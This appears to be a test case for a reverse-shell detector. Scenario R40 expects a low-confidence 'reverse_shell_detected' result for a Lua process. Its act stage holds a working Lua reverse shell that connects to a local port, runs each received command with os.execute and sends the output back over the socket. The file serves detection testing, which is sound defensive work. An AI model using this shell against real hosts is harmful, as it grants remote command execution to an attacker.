# R40: lua sends a file with the output of each command of a peer
# stage: equipped
# within: 5500 ms
# expect: reverse_shell_detected
#   detection.reason: ~3 times in a row, over an outbound
#   detection.confidence: low
#   reverse_shell.process_list.0.process_id: $lua
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4642
#   reverse_shell.process_list.length: 1

#: prepare
. lib/peers.sh
commander 4642 5 'id; sleep 0.3' 1.2
#: act
. lib/peers.sh
act
lua -e 'local t = require("socket").tcp(); t:connect("127.0.0.1", "4642")
while true do
  local l = t:receive("*l"); if not l then break end
  os.execute("(" .. l .. ") > /tmp/r40 2>&1")
  local f = io.open("/tmp/r40"); t:send(f:read("*a")); f:close()
end' < /dev/null > /dev/null 2>&1 & fact lua $!
await 'at $lua 3 socket:*'
#: clean
rm -f /tmp/r40
